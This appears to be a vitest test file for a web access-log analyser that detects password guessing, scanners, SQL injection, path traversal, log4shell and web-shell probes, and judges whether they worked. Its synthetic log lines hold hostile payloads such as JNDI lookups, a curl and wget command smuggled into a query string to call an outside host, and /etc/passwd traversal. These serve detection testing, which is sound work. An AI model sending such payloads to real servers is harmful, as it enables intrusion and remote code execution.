/** The access log analyser: who attacked, how, whether it worked, and honest silence otherwise. */
import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { z } from 'zod';
import { analyzeAccessLog, parseLogLine } from '../../../analysis/web/index.ts';
import { dataJson, dataPath, describeWithData } from '../../support/data.ts';

const line = (source: string, request: string, status = 200, size = 500, agent = 'Mozilla/5.0', second = 0) =>
  `${source} - - [24/Nov/2026:00:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} +0000] "${request}" ${status} ${size} "-" "${agent}"`;
async function* chunked(bytes: Uint8Array, size: number) {
  for (let at = 0; at < bytes.length; at += size) yield await Promise.resolve(bytes.subarray(at, at + size));
}
const analyze = (lines: readonly string[], chunk = 65_536) =>
  analyzeAccessLog(chunked(Buffer.from(lines.join('\n')), chunk), { name: 'access.log' });
async function resultOf(lines: readonly string[], chunk?: number) {
  const reading = await analyze(lines, chunk);
  if (!reading.ok) throw new Error(reading.reason);
  return reading.result;
}
const classesOf = ({ attackers }: Awaited<ReturnType<typeof resultOf>>) =>
  Object.fromEntries(attackers.map(({ source, classes }) => [source, classes.map((each) => each.class)]));

test('a clean log is benign, with the receipt that says what was read and what the control found', async () => {
  const result = await resultOf([line('192.0.2.1', 'GET / HTTP/1.1'), '', line('192.0.2.2', 'GET /a?id=7 HTTP/1.1')]);
  expect(result).toMatchObject({
    verdict: 'benign',
    severity: 'info',
    confidence: 0,
    attackers: [],
    iocs: [],
    checked: [{ corpus: { items: 2, items_read: 2 }, control: expect.stringContaining('sqli') as string }],
  });
  expect(result.not_checked.length).toBeGreaterThan(0);
});

test('behind a proxy the client that the last field names is told as unverified, and never taken for the peer', async () => {
  const probe = line('10.0.0.1', 'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1');
  const named = await resultOf([`${probe} "203.0.113.5, 10.0.0.7"`]);
  expect(named.iocs).toEqual([{ type: 'ip', value: '10.0.0.1' }]);
  expect(named.attackers.map(({ source }) => source)).toEqual(['10.0.0.1']);
  expect(JSON.stringify(named.not_checked)).toContain('the log names 203.0.113.5, unverified');
  expect(JSON.stringify(named.recommendations)).toContain('203.0.113.5, unverified');
  expect(named.recommendations.map(({ action }) => action).join()).not.toContain('Block');
  for (const last of ['', ' "-"', ' "not an address"']) {
    const bare = JSON.stringify((await resultOf([`${probe}${last}`])).not_checked);
    expect(bare).toContain('no other client address was read');
    expect(bare).not.toContain('unverified');
  }
  const json = {
    remote_addr: '10.0.0.1',
    http_x_forwarded_for: '203.0.113.6',
    request: 'GET /.env HTTP/1.1',
    status: 200,
  };
  expect(parseLogLine(JSON.stringify(json))).toMatchObject({ source: '10.0.0.1', named_client: '203.0.113.6' });
});

test('what holds no line of a log is refused with a reason, and an unread line makes silence inconclusive', async () => {
  expect(await analyze([])).toMatchObject({ ok: false });
  expect(await analyze(['hello', 'world'])).toMatchObject({
    ok: false,
    reason: expect.stringMatching(/combined.*JSON.*nginx and Apache/) as string,
  });
  expect(await resultOf([line('192.0.2.1', 'GET / HTTP/1.1'), 'noise'])).toMatchObject({ verdict: 'inconclusive' });
});

test('a line of garbage lowers no verdict', async () => {
  const exploit = line('192.0.2.9', 'POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 200, 550);
  expect(await resultOf([exploit])).toMatchObject({ verdict: 'malicious', confidence: 0.8 });
  expect(await resultOf([exploit, 'garbage'])).toMatchObject({ verdict: 'malicious', confidence: 0.5 });
});

test('every usual format is read to the same facts', () => {
  const facts = { source: '192.0.2.1', method: 'GET', target: '/a', status: 404, size: 7 };
  const date = '[24/Nov/2026:00:00:00 +0100]';
  for (const text of [
    `192.0.2.1 - - ${date} "GET /a HTTP/1.1" 404 7`,
    `192.0.2.1 - bob ${date} "GET /a HTTP/1.1" 404 7 "-" "x \\" y"`,
    `www.example.com:443 192.0.2.1 - - ${date} "GET /a HTTP/1.1" 404 7 "-" "x" "-"`,
    `{"remote_addr":"192.0.2.1","request":"GET /a HTTP/1.1","status":404,"body_bytes_sent":"7"}`,
    `{"request":{"remote_ip":"192.0.2.1","method":"GET","uri":"/a"},"status":404,"size":7}`,
    `{"log":"192.0.2.1 - - ${date} \\"GET /a HTTP/1.1\\" 404 7\\n"}`,
  ]) {
    expect(parseLogLine(text), text).toMatchObject(facts);
  }
  expect(parseLogLine(`192.0.2.1 - - ${date} "GET /a HTTP/1.1" 404 7`)?.time).toBe(Date.UTC(2026, 10, 23, 23) / 1000);
  expect(parseLogLine('[::ffff:192.0.2.1]:99 x')).toBeUndefined();
});

test('guessing passwords is told from a visitor who errs twice, and a success after it is critical', async () => {
  const guesses = Array.from({ length: 9 }, (_, at) => line('192.0.2.9', 'POST /login HTTP/1.1', 401, 9, 'x', at));
  const errs = [1, 2].map((at) => line('192.0.2.1', 'POST /login HTTP/1.1', 401, 9, 'x', at));
  const failed = await resultOf([...guesses, ...errs]);
  expect(classesOf(failed)).toEqual({ '192.0.2.9': ['brute-force'] });
  expect(failed).toMatchObject({ verdict: 'suspicious', iocs: [{ type: 'ip', value: '192.0.2.9' }] });
  const through = await resultOf([...guesses, line('192.0.2.9', 'POST /login HTTP/1.1', 302, 0, 'x', 10)]);
  expect(through).toMatchObject({ verdict: 'malicious', severity: 'critical' });
  expect(through.mitre_techniques).toEqual(['T1078', 'T1110.001']);
});

const basic = (source: string, status: number, second: number, user = '-') =>
  `${source} - ${user} [24/Nov/2026:00:${String(Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')} +0000] "GET /admin/ HTTP/1.1" ${status} 381 "-" "x"`;
const times = <T>(count: number, of: (at: number) => T) => Array.from({ length: count }, (_, at) => of(at));

test('a name that is let in where its passwords were refused worked, also without a form', async () => {
  const tries = times(20, (at) => basic('192.0.2.9', 401, at, 'admin'));
  expect(await resultOf([...tries, basic('192.0.2.9', 200, 21, 'admin')])).toMatchObject({
    verdict: 'malicious',
    severity: 'critical',
  });
  // Without a name in the log it may be a program whose token ran out.
  const nameless = await resultOf([...times(20, (at) => basic('192.0.2.9', 401, at)), basic('192.0.2.9', 200, 21)]);
  expect(nameless).toMatchObject({ verdict: 'suspicious', severity: 'medium' });
  expect(nameless.findings[0]?.title).toContain('outcome unknown (what was refused was answered afterwards');
  const json = (status: number, second: number) =>
    JSON.stringify({
      remote_addr: '192.0.2.9',
      remote_user: 'admin',
      request: 'GET /a HTTP/1.1',
      status,
      time: 1_764_000_000 + second,
    });
  expect((await resultOf([...times(20, (at) => json(401, at)), json(200, 21)])).severity).toBe('critical');
  const browser = [basic('192.0.2.1', 401, 1), basic('192.0.2.1', 401, 4, 'bob'), basic('192.0.2.1', 200, 8, 'bob')];
  expect((await resultOf(browser)).verdict).toBe('benign');
});

test('names sent along with passwords from many sources are one storm, as forms are', async () => {
  const storm = await resultOf(times(80, (at) => basic(`198.51.100.${at % 40}`, 401, at, 'admin')));
  expect(storm.findings.map(({ rule }) => rule)).toEqual(['brute-force/distributed']);
});

test('passwords in the address are guesses when they change, and a program that repeats its own is none', async () => {
  const asks = (password: string, at: number, status = 200) =>
    line('192.0.2.9', `GET /check?user=admin&password=${password} HTTP/1.1`, status, 900, 'x', at);
  expect(classesOf(await resultOf(times(30, (at) => asks(`p${at}`, at))))).toEqual({ '192.0.2.9': ['brute-force'] });
  expect(await resultOf([...times(30, (at) => asks(`p${at}`, at)), asks('right', 31, 302)])).toMatchObject({
    severity: 'critical',
  });
  expect(classesOf(await resultOf(times(60, (at) => asks('same', at))))).toEqual({});
  const passes = times(60, (at) => line('192.0.2.9', `GET /img?pass=${at}&pw=${at}0 HTTP/1.1`, 200, 900, 'x', at));
  expect(classesOf(await resultOf(passes))).toEqual({});
});

test('a session renewed each minute is no guessing; the same as fast as guesses come is', async () => {
  const renew = (step: number) =>
    times(40, (at) => line('192.0.2.9', 'POST /api/session HTTP/1.1', 200, 90, 'x', at * step));
  expect(classesOf(await resultOf(renew(60)))).toEqual({});
  expect(classesOf(await resultOf(renew(1)))).toEqual({ '192.0.2.9': ['brute-force'] });
});

test('a form that answers 200 to everybody: a storm on it is told where it leads some on, else nobody can say, and it is said', async () => {
  const tried = (at: number) => line(`198.51.100.${at % 40}`, 'POST /login HTTP/1.1', 200, 900, 'x', at);
  const leads_on = await resultOf([...times(120, tried), line('192.0.2.1', 'POST /login HTTP/1.1', 302, 0, 'x', 121)]);
  expect(leads_on.findings.map(({ rule }) => rule)).toEqual(['brute-force/distributed']);
  const silent = await resultOf(times(120, tried));
  expect(silent).toMatchObject({ verdict: 'inconclusive', findings: [] });
  expect(JSON.stringify(silent.not_checked)).toContain('it answers 200 to all of them');
  const office = times(40, (at) => [
    tried(at),
    line(`198.51.100.${at % 40}`, 'POST /login HTTP/1.1', 302, 0, 'x', at),
  ]).flat();
  expect((await resultOf(office)).verdict).toBe('benign');
});

test('a slow guesser is found, and the same failures over a day are not guessing', async () => {
  const failures = (step: number) =>
    Array.from(
      { length: 26 },
      (_, at) =>
        `192.0.2.9 - - [24/Nov/2026:${String(Math.floor((at * step) / 60)).padStart(2, '0')}:${String((at * step) % 60).padStart(2, '0')}:00 +0000] "POST /login HTTP/1.1" 401 9`,
    );
  expect(classesOf(await resultOf(failures(1)))).toEqual({ '192.0.2.9': ['brute-force'] });
  expect(classesOf(await resultOf(failures(50)))).toEqual({});
});

const after = (source: string, minutes: number, status: number, request = 'POST /login HTTP/1.1') =>
  `${source} - - [24/Nov/2026:${String(Math.floor(minutes / 60)).padStart(2, '0')}:${String(Math.floor(minutes) % 60).padStart(2, '0')}:00 +0000] "${request}" ${status} 9`;
const each = <T>(count: number, of: (at: number) => T) => Array.from({ length: count }, (_, at) => of(at));

test('one who guesses twice an hour does not stop being a guesser, unless he gets in as often', async () => {
  expect(classesOf(await resultOf(each(30, (at) => after('192.0.2.9', at * 10, 401))))).toEqual({
    '192.0.2.9': ['brute-force'],
  });
  const office = each(30, (at) => [after('192.0.2.9', at * 10, 401), after('192.0.2.9', at * 10 + 1, 302)]).flat();
  expect(classesOf(await resultOf(office))).toEqual({});
});

test.each([
  ['two hundred sources within minutes', each(200, (at) => after(`198.51.100.${at}`, at / 60, 401))],
  ['a dozen sources that stop at four', each(48, (at) => after(`198.51.100.${at % 12}`, at / 10, 401))],
  ['two hundred sources over hours', each(200, (at) => after(`198.51.100.${at}`, at * 2, 422))],
  [
    'a blog, where a wrong password is answered with the form',
    each(60, (at) => after(`198.51.100.${at}`, at / 10, 200, 'POST /wp-login.php HTTP/1.1')),
  ],
])('guessing at one path is seen over all sources: %s', async (_who, lines) => {
  const result = await resultOf(lines);
  expect(result).toMatchObject({ verdict: 'suspicious', severity: 'medium', mitre_techniques: ['T1110'] });
  expect(result.findings).toMatchObject([{ rule: 'brute-force/distributed' }]);
  expect(result.findings[0]?.evidence[0]).toMatchObject({ locator: 'line 1' });
});

test.each([
  [
    'two hundred users who err once',
    each(200, (at) => [after(`10.0.0.${at}`, at / 10, 401), after(`10.0.0.${at}`, at / 10, 302)]).flat(),
  ],
  [
    'forty who give up among a hundred who get in',
    each(100, (at) => [
      after(`10.0.1.${at}`, at / 10, 302),
      ...(at % 5 < 2 ? [after(`10.0.2.${at}`, at / 10, 401)] : []),
    ]).flat(),
  ],
  ['an interface that answers 200 to a right password', each(200, (at) => after(`10.0.0.${at}`, at / 60, 200))],
  ['pages that ask who is there', each(200, (at) => after(`10.0.0.${at}`, at / 60, 401, 'GET /api/session HTTP/1.1'))],
])('honest sign-ins are no storm: %s', async (_who, lines) => {
  const { verdict, findings } = await resultOf(lines);
  expect(verdict).toBe('benign');
  expect(findings.filter(({ severity }) => severity !== 'info')).toEqual([]);
});

test('failures that are too few to be guessing are noted, and sign-ins without an answer are not called clean', async () => {
  expect(await resultOf(each(3, (at) => after('192.0.2.9', at, 401)))).toMatchObject({
    verdict: 'benign',
    findings: [
      {
        rule: 'brute-force/few',
        severity: 'info',
        title: expect.stringMatching(/^3 refused sign-ins from 1/) as string,
      },
    ],
  });
  const open = JSON.stringify({ method: 'POST', path: '/users/sign_in', status: 0, remote_ip: '192.0.2.9' });
  const result = await resultOf([open, open]);
  expect(result).toMatchObject({ verdict: 'inconclusive', checked: [{ corpus: { items: 2, items_read: 2 } }] });
  expect(result.not_checked).toContainEqual({
    what: 'whether 2 sign-ins worked',
    why: 'their lines carry no status',
  });
});

test('a scanner is known by the name of a product: an organisation that writes tests is none', async () => {
  const agents = (agent: string) => each(3, () => line('192.0.2.4', 'GET / HTTP/1.1', 200, 500, agent));
  for (const agent of ['Mozilla/5.0 (OWASP ZAP 2.14)', 'owasp-zap', 'zaproxy/2.14'])
    expect(classesOf(await resultOf(agents(agent))), agent).toEqual({ '192.0.2.4': ['scanner'] });
  expect(classesOf(await resultOf(agents('OWASP CRS test agent')))).toEqual({});
});

test('each habit of attackers has its class', async () => {
  const many = (count: number, of: (at: number) => string) => Array.from({ length: count }, (_, at) => of(at));
  const result = await resultOf([
    ...many(12, (at) => line('192.0.2.1', `GET /x${at} HTTP/1.1`, 404)),
    ...many(7, (at) => line('192.0.2.2', `GET /?author=${at} HTTP/1.1`, 301)),
    ...many(50, (at) => line('192.0.2.3', `GET /page/${at} HTTP/1.1`)),
    ...many(3, () => line('192.0.2.4', 'GET / HTTP/1.1', 200, 500, 'sqlmap/1.8')),
    line('192.0.2.5', 'GET /.env HTTP/1.1', 404),
    line('192.0.2.6', 'GET /wp-content/uploads/c99.php HTTP/1.1', 404),
    line('192.0.2.7', 'GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1', 404),
    line('192.0.2.8', 'CONNECT mail.example.com:25 HTTP/1.1', 400),
    line('192.0.2.9', 'GET / HTTP/1.1', 200, 500, '${jndi:ldap://198.51.100.1/a}'),
    line('192.0.2.10', "GET /item?id=1'%20UNION%20SELECT%20a%20FROM%20b--%20 HTTP/1.1", 403),
  ]);
  expect(classesOf(result)).toMatchObject({
    '192.0.2.1': ['path-scan'],
    '192.0.2.2': ['user-enumeration'],
    '192.0.2.3': ['crawl'],
    '192.0.2.4': ['scanner'],
    '192.0.2.5': ['sensitive-file'],
    '192.0.2.6': ['webshell'],
    '192.0.2.7': ['exploit-path'],
    '192.0.2.8': ['open-proxy'],
    '192.0.2.9': ['log4shell'],
    '192.0.2.10': ['sqli'],
  });
  expect(result.iocs).not.toContainEqual({ type: 'ip', value: '192.0.2.3' });
  const cited = result.findings.find(({ rule }) => rule?.startsWith('webshell'))?.evidence[0];
  expect(cited).toMatchObject({ source: 'access.log', locator: 'line 74' });
});

test('success is read from status and size: an unchanged page is unlikely, a different one is possible', async () => {
  const injected = (size: number) => [
    line('192.0.2.1', 'GET /item?id=1 HTTP/1.1', 200, 5_000),
    line('192.0.2.9', "GET /item?id=1'%20OR%20'1'='1 HTTP/1.1", 200, size),
  ];
  expect((await resultOf(injected(5_010))).attackers[0]?.classes[0]).toMatchObject({ success: 'unlikely' });
  expect((await resultOf(injected(90_000))).attackers[0]?.classes[0]).toMatchObject({ success: 'possible' });
});

test('an answer says something only against another: a page of its own size to words that may be honest is no success', async () => {
  const visitor = line('192.0.2.1', 'GET /item?id=1 HTTP/1.1', 200, 5_000);
  const outcomeOf = async (lines: readonly string[]) => (await resultOf(lines)).attackers[0]?.classes[0]?.success;
  const faint = line('192.0.2.9', 'GET /read?f=/etc/passwd HTTP/1.1', 200, 700);
  expect(await outcomeOf([visitor, faint])).toBe('unknown');
  expect(await outcomeOf([line('192.0.2.1', 'GET /read?f=a HTTP/1.1', 200, 5_000), faint])).toBe('possible');
  const firm = line('192.0.2.9', "GET /read?f=1'%20UNION%20SELECT%20a%20FROM%20b--%20 HTTP/1.1", 200, 700);
  expect(await outcomeOf([visitor, firm])).toBe('possible');
  const usual = ['/a', '/b', '/c'].map((path) => line('192.0.2.1', `GET ${path} HTTP/1.1`, 200, 710));
  expect(await outcomeOf([...usual, firm])).toBe('unlikely');
});

test('a server that sends one page for every unknown path has no web shell because of it', async () => {
  const scan = (sizes: readonly number[]) =>
    ['/c99.php', '/.env', '/.git/config', '/actuator/env'].map((path, at) =>
      line('192.0.2.9', `GET ${path} HTTP/1.1`, sizes[at] === 0 ? 404 : 200, sizes[at]),
    );
  const page_for_all = await resultOf(scan([3_000, 3_000, 3_000, 3_000]));
  expect(page_for_all.attackers[0]?.classes.map(({ success }) => success)).not.toContain('likely');
  expect(page_for_all.verdict).toBe('suspicious');
  const found = await resultOf(scan([3_000, 0, 0, 0]));
  expect(found).toMatchObject({ severity: 'critical' });
});

test('blocking names every public attacker and never a private, loopback, link-local or reserved address', async () => {
  const local = [
    '172.17.0.1',
    '127.0.0.1',
    '10.0.0.3',
    '169.254.1.1',
    '100.64.0.1',
    '240.0.0.1',
    '::1',
    'fe80::1',
    'fd00::1',
  ];
  const open = ['192.0.2.1', '198.51.100.2', '2001:db8::3'];
  const attack = "GET /item?id=1'%20UNION%20SELECT%20a%20FROM%20b--%20 HTTP/1.1";
  const result = await resultOf([...local, ...open].map((source) => line(source, attack, 403)));
  const targetsOf = (word: string) =>
    result.recommendations.find(({ action }) => action.startsWith(word))?.target.split(', ');
  expect(targetsOf('Block')).toEqual(open);
  expect(targetsOf('Look up')).toEqual(local);
  expect(JSON.stringify(result.not_checked)).toContain('9 attacking sources without a public address');
  const only_local = await resultOf([line('172.17.0.1', attack, 403)]);
  expect(only_local.recommendations.map(({ action_class }) => action_class)).toEqual(['read']);
  const many = await resultOf(Array.from({ length: 30 }, (_, at) => line(`203.0.113.${at}`, attack, 403)));
  expect(many.recommendations[0]).toMatchObject({
    target: expect.stringMatching(/^(?:[\d.]+, ){19}[\d.]+$/) as string,
    reason: expect.stringContaining('20 of 30') as string,
  });
});

test('a request part that several lists and grammars know is one deed: the most specific', async () => {
  const result = await resultOf([
    line('192.0.2.1', 'GET /?x=$%7Bjndi:ldap://127.0.0.1/a%7D HTTP/1.1', 404),
    line('192.0.2.2', 'GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1', 404),
    line('192.0.2.3', 'GET /download/../../../etc/passwd HTTP/1.1', 404),
  ]);
  expect(classesOf(result)).toEqual({
    '192.0.2.1': ['log4shell'],
    '192.0.2.2': ['exploit-path'],
    '192.0.2.3': ['lfi'],
  });
});

test('many harmless sources of one class are one finding with a count and a few lines', async () => {
  const crawl = (source: string) => Array.from({ length: 50 }, (_, at) => line(source, `GET /page/${at} HTTP/1.1`));
  const result = await resultOf(Array.from({ length: 12 }, (_, at) => crawl(`192.0.2.${at}`)).flat());
  expect(result).toMatchObject({ verdict: 'benign', recommendations: [], iocs: [] });
  expect(result.findings).toHaveLength(1);
  expect(result.findings[0]?.title).toMatch(/^12 sources: crawling .*, 120 lines$/);
  expect(result.findings[0]?.evidence).toHaveLength(5);
});

test('the outcome is told in plain words, with both sizes where the usual one is known', async () => {
  const attack = line('192.0.2.9', "GET /item?id=1'%20OR%20'1'='1 HTTP/1.1", 200, 1_874);
  const compared = await resultOf([line('192.0.2.1', 'GET /item?id=1 HTTP/1.1', 200, 5_000), attack]);
  expect(compared.findings[0]?.title).toContain(
    '1 line, may have worked (the server sent 1874 bytes where this page usually has 5000)',
  );
  expect((await resultOf([attack])).findings[0]?.title).toContain('(the server sent 1874 bytes)');
});

test('the same bytes give the same result however they are cut (ATK-F3: hostile text is neutralised)', async () => {
  const lines = [
    line('192.0.2.9', 'GET /?q=<script>alert(1)</script>\u001b[31m\u202e HTTP/1.1'),
    line('192.0.2.1', 'GET /é HTTP/1.1'),
  ];
  const whole = JSON.stringify(await resultOf(lines));
  expect(JSON.stringify(await resultOf(lines, 1))).toBe(whole);
  expect(JSON.stringify(await resultOf(lines, 7))).toBe(whole);
  expect(whole).not.toMatch(/\\u001b|\u202e/);
});

test('a line without end costs 64 KiB, is counted and keeps the verdict from being clean', async () => {
  const huge = line('192.0.2.1', `GET /${'a'.repeat(300_000)} HTTP/1.1`);
  const result = await resultOf([line('192.0.2.1', 'GET / HTTP/1.1'), huge]);
  expect(result.verdict).toBe('inconclusive');
  expect(JSON.stringify(result.not_checked)).toContain('1 long lines');
  const sealed = await resultOf([
    line('192.0.2.1', 'GET / HTTP/1.1'),
    `${line('192.0.2.2', 'GET /b HTTP/1.1')}${' '.repeat(70_000)}`,
  ]);
  expect(sealed).toMatchObject({ verdict: 'inconclusive', checked: [{ corpus: { items: 2, items_read: 1 } }] });
});

test('more sources than are watched are bounded and said so', async () => {
  const lines = Array.from({ length: 20_010 }, (_, at) => line(`2001:db8::${at.toString(16)}`, 'GET / HTTP/1.1'));
  const result = await resultOf(lines);
  expect(result.verdict).toBe('inconclusive');
  expect(JSON.stringify(result.not_checked)).toContain('10 quiet sources');
});

test('an aborted reading stops', async () => {
  const aborted = AbortSignal.abort(new Error('stop'));
  const stream = chunked(Buffer.from(line('192.0.2.1', 'GET / HTTP/1.1')), 10);
  await expect(analyzeAccessLog(stream, { name: 'x', signal: aborted })).rejects.toThrow('stop');
});

describeWithData('the web server logs with known answers', () => {
  const Expected = z.object({
    cases: z.array(
      z.object({
        file: z.string(),
        log_type: z.string(),
        alerts: z.array(z.object({ scenario: z.string(), sources: z.array(z.string()) })),
      }),
    ),
  });
  const CLASSES: readonly [RegExp, readonly string[]][] = [
    [/-bf$|bruteforce/, ['brute-force', 'exploit-path']],
    [/user-enum|user_enum/, ['user-enumeration']],
    [/sensitive/, ['sensitive-file']],
    [/sqli/, ['sqli']],
    [/traversal/, ['lfi']],
    [/open-proxy/, ['open-proxy']],
    [/bad-user-agent/, ['scanner']],
    [/invalid-http/, ['malformed-request']],
    [/dos-swi/, ['dos']],
    [/./, ['exploit-path']],
  ];

  test('names the attacking source in at least 95 % and its class in at least 90 %, and no visitor as grave', async () => {
    const count = { sources: 0, named: 0, classed: 0, visitors: 0 };
    const { cases } = Expected.parse(dataJson('logs', 'expected.json'));
    for (const { file, log_type, alerts } of cases) {
      if (!/^(?:nginx|apache2|caddy|aws-alb|bunkerweb|containerd|litespeed|zoraxy)$/.test(log_type)) continue;
      const reading = await analyzeAccessLog(chunked(readFileSync(dataPath('logs', file)), 65_536), { name: file });
      const { attackers, iocs } = reading.ok ? reading.result : { attackers: [], iocs: [] }; // an unread log is a miss
      const found = new Map(attackers.map(({ source, classes }) => [source, classes.map((each) => each.class)]));
      const wanted = alerts.flatMap(({ scenario, sources }) => sources.map((source) => ({ scenario, source })));
      for (const { scenario, source } of wanted) {
        const accepted: readonly string[] = CLASSES.find(([pattern]) => pattern.test(scenario))?.[1] ?? [];
        count.sources += 1;
        count.named += found.has(source) ? 1 : 0;
        count.classed += found.get(source)?.some((each) => accepted.includes(each)) ? 1 : 0;
      }
      const known = new Set(wanted.map(({ source }) => source));
      count.visitors += iocs.filter(({ value }) => !known.has(value)).length;
    }
    expect(count.sources).toBeGreaterThan(45);
    expect(count.named / count.sources).toBeGreaterThanOrEqual(0.95);
    expect(count.classed / count.sources).toBeGreaterThanOrEqual(0.9);
    expect(count.visitors).toBe(0);
  });
});

const post = (path: string, status: number, second: number, source = '203.0.113.9') =>
  line(source, `POST ${path} HTTP/1.1`, status, status === 200 ? 1_500 : 90, 'x', second);

test.each([
  ['the usual page', line('203.0.113.9', 'GET / HTTP/1.1', 200, 500, '${jndi:ldap://203.0.113.9/a}')],
  ['a refusal', line('203.0.113.9', 'GET /nowhere?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1', 404, 90)],
  ['the usual page', line('203.0.113.9', 'GET /ping?host=a;curl%20http://203.0.113.9/$(whoami) HTTP/1.1')],
])('what has the server call another host is not told to have failed by %s', async (_what, attack) => {
  const visits = ['/', '/ping?host=a', '/b', '/c'].map((path) => line('192.0.2.1', `GET ${path} HTTP/1.1`));
  const result = await resultOf([...visits, attack]);
  const outcomes = result.attackers.flatMap(({ classes }) => classes.map(({ success }) => success));
  expect(new Set(outcomes)).toEqual(new Set(['unknown']));
  expect(result.findings[0]?.title).toContain('outcome unknown (it works out of band: look for outgoing connections)');
  expect(result.recommendations.map(({ action }) => action).join()).toContain('connections that the web server opened');
});

test('a command at a path that is not there ran nowhere, whomever it would have called', async () => {
  const result = await resultOf([
    line('203.0.113.9', 'GET /shell?cd+/tmp;wget+http://203.0.113.9/m HTTP/1.1', 404, 90),
  ]);
  expect(JSON.stringify(result)).not.toContain('out of band');
});

test('a password that is answered 200 where wrong ones were answered 401 was right', async () => {
  const guessed = await resultOf([...times(40, (at) => post('/api/login', 401, at)), post('/api/login', 200, 45)]);
  expect(guessed).toMatchObject({ verdict: 'malicious', severity: 'critical' });
  expect(guessed.findings[0]?.title).toContain('probably worked (a login followed the failures)');
  // A form that answers 200 to wrong passwords does so after it refused a request as well.
  const form = await resultOf([
    post('/login', 200, 0),
    ...times(40, (at) => post('/login', 403, at)),
    post('/login', 200, 45),
  ]);
  expect(form.findings[0]?.title).toContain('probably failed');
  const blog = await resultOf([...times(40, (at) => post('/wp-login.php', 403, at)), post('/wp-login.php', 200, 45)]);
  expect(blog.findings[0]?.title).toContain('probably failed');
});

test('where wrong passwords are told by 401, many that are answered 200 are no storm', async () => {
  const busy = times(240, (at) => post('/api/login', at % 20 === 19 ? 401 : 200, at, `10.0.0.${at % 40}`));
  expect(await resultOf(busy)).toMatchObject({ verdict: 'benign' });
});

test.each([
  ['a probe without a token', times(60, (at) => line('192.0.2.9', 'GET /api/health HTTP/1.1', 401, 9, 'x', at))],
  [
    'a mount whose password is asked for',
    times(40, (at) => line('192.0.2.9', 'PROPFIND /dav HTTP/1.1', 401, 9, 'x', at)),
  ],
  ['a program whose token ran out', times(30, (at) => post('/graphql', 401, at))],
])(
  'what is refused again and again without a password that the log shows is noted, and guesses nothing: %s',
  async (_who, lines) => {
    const result = await resultOf(lines);
    expect(result).toMatchObject({ verdict: 'benign', attackers: [], mitre_techniques: [], iocs: [] });
    expect(result.findings).toMatchObject([{ rule: 'brute-force/nameless', severity: 'info' }]);
  },
);

test('a server that asks for a password and keeps no name of who fails shows guesses', async () => {
  const asked = (at: number, challenge: string) =>
    JSON.stringify({
      ts: 1_764_000_000 + at,
      request: { client_ip: '192.0.2.9', method: 'GET', uri: '/' },
      status: 401,
      resp_headers: { 'Www-Authenticate': [challenge] },
    });
  expect(classesOf(await resultOf(times(20, (at) => asked(at, 'Basic realm="x"'))))).toEqual({
    '192.0.2.9': ['brute-force'],
  });
  expect(classesOf(await resultOf(times(20, (at) => asked(at, 'Bearer'))))).toEqual({});
});

test('an address from which most sign in well is many people: no failure among them led to a login that is theirs', async () => {
  const shared = await resultOf(times(200, (at) => post('/oauth/token', at % 3 === 0 ? 401 : 200, at * 5)));
  expect(shared).toMatchObject({ verdict: 'suspicious', severity: 'medium' });
  const own = times(300, (at) => post('/search', 200, at));
  const guessed = await resultOf([
    ...own,
    ...times(40, (at) => post('/api/login', 401, at + 300)),
    post('/api/login', 200, 345),
  ]);
  expect(guessed).toMatchObject({ verdict: 'malicious', severity: 'critical' });
});

test('what was in use before its token ran out is no guess that worked, and at a path that nobody knows one is', async () => {
  const tokens = [
    ...times(3, (at) => post('/graphql', 200, at)),
    ...times(30, (at) => post('/graphql', 401, at + 10)),
    ...times(30, (at) => post('/graphql', 200, at + 50)),
  ];
  expect(await resultOf(tokens)).toMatchObject({ verdict: 'benign' });
  const renewed = await resultOf([
    ...times(30, (at) => post('/rpc', 401, at)),
    ...times(9, (at) => post('/rpc', 200, at + 40)),
  ]);
  expect(renewed).toMatchObject({ verdict: 'suspicious', severity: 'medium' });
  const entered = await resultOf([
    ...times(40, (at) => post('/api/v1/enter', 401, at)),
    post('/api/v1/enter', 200, 45),
  ]);
  expect(entered).toMatchObject({ verdict: 'malicious', severity: 'critical' });
});

test('a log in UTF-16, as PowerShell writes it, is read with and without its mark', async () => {
  const text = [...times(40, (at) => post('/api/login', 401, at)), post('/api/login', 200, 45)].join('\r\n');
  for (const wide of [
    Buffer.from(`\ufeff${text}`, 'utf16le'),
    Buffer.from(`\ufeff${text}`, 'utf16le').swap16(),
    Buffer.from(text, 'utf16le'),
  ]) {
    const reading = await analyzeAccessLog(chunked(wide, 101), { name: 'access.log' });
    expect(reading.ok && reading.result).toMatchObject({
      severity: 'critical',
      checked: [{ corpus: { items: 41, items_read: 41 } }],
    });
  }
});

test('a line of Zeek says who asked for what', () => {
  const zeek = {
    ts: 1764000000.5,
    'id.orig_h': '192.0.2.1',
    method: 'GET',
    uri: '/a',
    status_code: 404,
    response_body_len: 7,
  };
  expect(parseLogLine(JSON.stringify(zeek))).toMatchObject({
    source: '192.0.2.1',
    target: '/a',
    status: 404,
    size: 7,
    time: 1764000000,
  });
});
